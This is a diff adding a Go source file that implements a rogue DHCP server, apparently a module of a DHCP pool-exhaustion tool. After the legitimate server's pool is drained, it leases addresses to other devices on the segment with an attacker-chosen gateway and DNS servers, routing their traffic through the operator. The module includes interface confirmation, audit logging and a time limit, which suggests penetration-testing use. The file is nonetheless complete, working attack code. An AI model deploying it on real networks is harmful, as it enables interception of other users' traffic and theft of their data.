@@ -0,0 +1,319 @@
+package main
+
+import (
+	"bufio"
+	"context"
+	"encoding/binary"
+	"fmt"
+	"io"
+	"log/slog"
+	"net"
+	"strings"
+	"sync"
+	"time"
+)
+
+// rogueServer is the follow-up to an exhausted pool: a DHCP server on the
+// target segment answering the clients the real server no longer can, with
+// an attacker-chosen gateway and DNS servers. It only answers DISCOVERs and
+// REQUESTs addressed to it, and leaves the run's own clients alone.
+type rogueServer struct {
+	conn      *packetConn
+	serverIP  net.IP
+	mask      net.IPMask
+	gateway   net.IP
+	dns       []net.IP
+	pool      []net.IP
+	leaseTime time.Duration
+	duration  time.Duration
+	// own reports whether a MAC belongs to one of the run's clients.
+	own func(mac string) bool
+
+	mu       sync.Mutex
+	bindings map[string]net.IP
+	offers   int
+	acks     int
+	naks     int
+	releases int
+}
+
+// newRogueServer validates the -rogue-* options against the target network,
+// asks the operator to confirm on in and opens the server's packet socket.
+// It returns nil when -rogue-server is not set.
+func newRogueServer(cfg Config, netCfg *NetworkConfig, own func(mac string) bool, in io.Reader) (*rogueServer, error) {
+	if !cfg.RogueServer {
+		return nil, nil
+	}
+	if netCfg.HostIP == nil {
+		return nil, fmt.Errorf("-rogue-server answers from the host's address on %s, which has none", netCfg.Parent)
+	}
+	pool, err := parseRoguePool(cfg.RoguePool, netCfg.Subnet)
+	if err != nil {
+		return nil, err
+	}
+	gateway := netCfg.HostIP
+	if cfg.RogueGateway != "" {
+		if gateway = net.ParseIP(cfg.RogueGateway).To4(); gateway == nil {
+			return nil, fmt.Errorf("invalid -rogue-gateway '%s'", cfg.RogueGateway)
+		}
+	}
+	dns := []net.IP{netCfg.HostIP}
+	if len(cfg.RogueDNS) > 0 {
+		dns = nil
+		for _, s := range cfg.RogueDNS {
+			ip := net.ParseIP(s).To4()
+			if ip == nil {
+				return nil, fmt.Errorf("invalid -rogue-dns address '%s'", s)
+			}
+			dns = append(dns, ip)
+		}
+	}
+	if cfg.RogueLease < time.Minute {
+		return nil, fmt.Errorf("-rogue-lease must be at least 1m")
+	}
+	if cfg.RogueDuration <= 0 {
+		return nil, fmt.Errorf("-rogue-duration must be positive")
+	}
+
+	fmt.Println("=== Rogue DHCP Server ===")
+	fmt.Printf("Once launching stops, this run will answer DHCP clients on %s for %s,\n", netCfg.Parent, cfg.RogueDuration)
+	fmt.Printf("leasing %s-%s from %s with gateway %s and DNS %s.\n", pool[0], pool[len(pool)-1], netCfg.HostIP, gateway, joinIPs(dns))
+	fmt.Println("Every device that joins the segment meanwhile routes through the gateway above.")
+	if err := confirmInterface("-rogue-server", netCfg.Parent, in); err != nil {
+		return nil, err
+	}
+
+	conn, err := openPacketConn(netCfg.Parent, etherTypeIPv4)
+	if err != nil {
+		return nil, err
+	}
+	if err := conn.setReadTimeout(500 * time.Millisecond); err != nil {
+		conn.Close()
+		return nil, fmt.Errorf("failed to set socket timeout: %v", err)
+	}
+	return &rogueServer{
+		conn:      conn,
+		serverIP:  netCfg.HostIP,
+		mask:      netCfg.Subnet.Mask,
+		gateway:   gateway,
+		dns:       dns,
+		pool:      pool,
+		leaseTime: cfg.RogueLease,
+		duration:  cfg.RogueDuration,
+		own:       own,
+		bindings:  make(map[string]net.IP),
+	}, nil
+}
+
+// confirmInterface has the operator type the interface name, so the
+// aggressive option flag (a rogue server, spoofed releases) never takes
+// effect from a stale config file or a pasted command alone.
+func confirmInterface(flag, iface string, in io.Reader) error {
+	fmt.Printf("Type the interface name (%s) to confirm: ", iface)
+	line, err := bufio.NewReader(in).ReadString('\n')
+	if err != nil && line == "" {
+		return fmt.Errorf("%s was not confirmed: %v", flag, err)
+	}
+	if strings.TrimSpace(line) != iface {
+		return fmt.Errorf("%s was not confirmed", flag)
+	}
+	return nil
+}
+
+// parseRoguePool parses a -rogue-pool range of the form first-last, which
+// must lie within subnet.
+func parseRoguePool(spec string, subnet *net.IPNet) ([]net.IP, error) {
+	if spec == "" {
+		return nil, fmt.Errorf("-rogue-server needs -rogue-pool, e.g. -rogue-pool=192.168.1.200-192.168.1.250")
+	}
+	first, last, ok := strings.Cut(spec, "-")
+	start, end := net.ParseIP(strings.TrimSpace(first)).To4(), net.ParseIP(strings.TrimSpace(last)).To4()
+	if !ok || start == nil || end == nil {
+		return nil, fmt.Errorf("invalid -rogue-pool '%s': use first-last, e.g. 192.168.1.200-192.168.1.250", spec)
+	}
+	if !subnet.Contains(start) || !subnet.Contains(end) {
+		return nil, fmt.Errorf("-rogue-pool %s is outside the target subnet %s", spec, subnet)
+	}
+	from, to := binary.BigEndian.Uint32(start), binary.BigEndian.Uint32(end)
+	if from > to {
+		return nil, fmt.Errorf("invalid -rogue-pool '%s': the first address is above the last", spec)
+	}
+	var pool []net.IP
+	for n := from; n <= to && n >= from; n++ {
+		ip := make(net.IP, 4)
+		binary.BigEndian.PutUint32(ip, n)
+		pool = append(pool, ip)
+	}
+	return pool, nil
+}
+
+// joinIPs formats addresses as a comma-separated list.
+func joinIPs(ips []net.IP) string {
+	s := make([]string, len(ips))
+	for i, ip := range ips {
+		s[i] = ip.String()
+	}
+	return strings.Join(s, ",")
+}
+
+// serve answers clients until the -rogue-duration elapses or ctx is
+// cancelled, then closes the socket.
+func (s *rogueServer) serve(ctx context.Context) {
+	defer s.conn.Close()
+	audit.record("rogue_server_started", map[string]any{"interface": s.conn.iface.Name, "server": s.serverIP.String(), "pool": fmt.Sprintf("%s-%s", s.pool[0], s.pool[len(s.pool)-1]), "gateway": s.gateway.String(), "dns": joinIPs(s.dns), "duration_seconds": s.duration.Seconds()})
+	defer audit.record("rogue_server_stopped", map[string]any{"interface": s.conn.iface.Name})
+	ctx, cancel := context.WithTimeout(ctx, s.duration)
+	defer cancel()
+	buf := make([]byte, 65536)
+	for ctx.Err() == nil {
+		n, err := s.conn.readFrame(buf)
+		if err != nil || n == 0 {
+			continue
+		}
+		frame, ok := parseUDPFrame(buf[:n])
+		if !ok || frame.SrcPort != dhcpClientPort || frame.DstPort != dhcpServerPort {
+			continue
+		}
+		msg, err := parseDHCP(frame.Payload)
+		if err != nil || msg.Op != bootRequest || len(msg.CHAddr) != 6 || s.own(msg.CHAddr.String()) {
+			continue
+		}
+		if err := s.handle(msg); err != nil {
+			slog.Warn("rogue server failed to reply", "mac", msg.CHAddr, "error", err)
+		}
+	}
+}
+
+// handle answers one client message.
+func (s *rogueServer) handle(msg *dhcpMessage) error {
+	mac := msg.CHAddr.String()
+	switch msg.msgType() {
+	case dhcpDiscover:
+		ip := s.binding(mac)
+		if ip == nil {
+			slog.Warn("rogue server pool exhausted", "mac", mac)
+			return nil
+		}
+		s.mu.Lock()
+		s.offers++
+		s.mu.Unlock()
+		return s.reply(msg, dhcpOffer, ip)
+	case dhcpRequest:
+		if id := msg.serverID(); id != nil && !id.Equal(s.serverIP) {
+			// The client chose another server's offer.
+			s.mu.Lock()
+			delete(s.bindings, mac)
+			s.mu.Unlock()
+			return nil
+		}
+		requested := net.IP(msg.option(optRequestedIP))
+		if len(requested) != 4 {
+			requested = msg.CIAddr
+		}
+		s.mu.Lock()
+		ip := s.bindings[mac]
+		s.mu.Unlock()
+		if ip == nil {
+			// Not a client of ours; let the real server answer.
+			return nil
+		}
+		if !ip.Equal(requested) {
+			s.mu.Lock()
+			s.naks++
+			s.mu.Unlock()
+			return s.reply(msg, dhcpNak, nil)
+		}
+		s.mu.Lock()
+		s.acks++
+		s.mu.Unlock()
+		slog.Info("rogue server leased address", "ip", ip, "mac", mac, "hostname", string(msg.option(optHostname)))
+		audit.record("rogue_lease", map[string]any{"ip": ip.String(), "mac": mac, "hostname": string(msg.option(optHostname))})
+		return s.reply(msg, dhcpAck, ip)
+	case dhcpRelease:
+		s.mu.Lock()
+		if _, ok := s.bindings[mac]; ok {
+			delete(s.bindings, mac)
+			s.releases++
+		}
+		s.mu.Unlock()
+	}
+	return nil
+}
+
+// binding returns the address bound to mac, binding the first free one in
+// the pool if there is none.
+func (s *rogueServer) binding(mac string) net.IP {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	if ip, ok := s.bindings[mac]; ok {
+		return ip
+	}
+	used := make(map[string]bool, len(s.bindings))
+	for _, ip := range s.bindings {
+		used[ip.String()] = true
+	}
+	for _, ip := range s.pool {
+		if !used[ip.String()] {
+			s.bindings[mac] = ip
+			return ip
+		}
+	}
+	return nil
+}
+
+// reply sends an OFFER, ACK or NAK for msg. Replies are broadcast when the
+// client asked for it or has no address yet, and unicast to the client's MAC
+// otherwise.
+func (s *rogueServer) reply(msg *dhcpMessage, msgType byte, ip net.IP) error {
+	reply := &dhcpMessage{
+		Op:      bootReply,
+		XID:     msg.XID,
+		Flags:   msg.Flags,
+		YIAddr:  ip,
+		SIAddr:  s.serverIP,
+		GIAddr:  msg.GIAddr,
+		CHAddr:  msg.CHAddr,
+		Options: []dhcpOption{{Code: optMessageType, Data: []byte{msgType}}},
+	}
+	reply.addOption(optServerID, s.serverIP.To4())
+	if msgType != dhcpNak {
+		lease := make([]byte, 4)
+		binary.BigEndian.PutUint32(lease, uint32(s.leaseTime.Seconds()))
+		reply.addOption(optLeaseTime, lease)
+		reply.addOption(optSubnetMask, s.mask)
+		reply.addOption(optRouter, s.gateway.To4())
+		var dns []byte
+		for _, ip := range s.dns {
+			dns = append(dns, ip.To4()...)
+		}
+		reply.addOption(optDNS, dns)
+	}
+	dstMAC, dstIP := msg.CHAddr, ip
+	if msgType == dhcpNak || msg.Flags&0x8000 != 0 || ip == nil {
+		dstMAC, dstIP = broadcastMAC, net.IPv4bcast
+	}
+	return s.conn.writeFrame(buildUDPFrame(udpFrame{
+		SrcMAC:  s.conn.iface.HardwareAddr,
+		DstMAC:  dstMAC,
+		SrcIP:   s.serverIP,
+		DstIP:   dstIP,
+		SrcPort: dhcpServerPort,
+		DstPort: dhcpClientPort,
+		Payload: reply.marshal(),
+	}))
+}
+
+// printSummary reports what the rogue server handed out. A nil server prints
+// nothing.
+func (s *rogueServer) printSummary() {
+	if s == nil {
+		return
+	}
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	fmt.Println("=== Rogue DHCP Server ===")
+	fmt.Printf("Offers sent:       %d\n", s.offers)
+	fmt.Printf("Leases granted:    %d (gateway %s, DNS %s)\n", s.acks, s.gateway, joinIPs(s.dns))
+	fmt.Printf("Requests NAKed:    %d\n", s.naks)
+	fmt.Printf("Releases:          %d\n", s.releases)
+}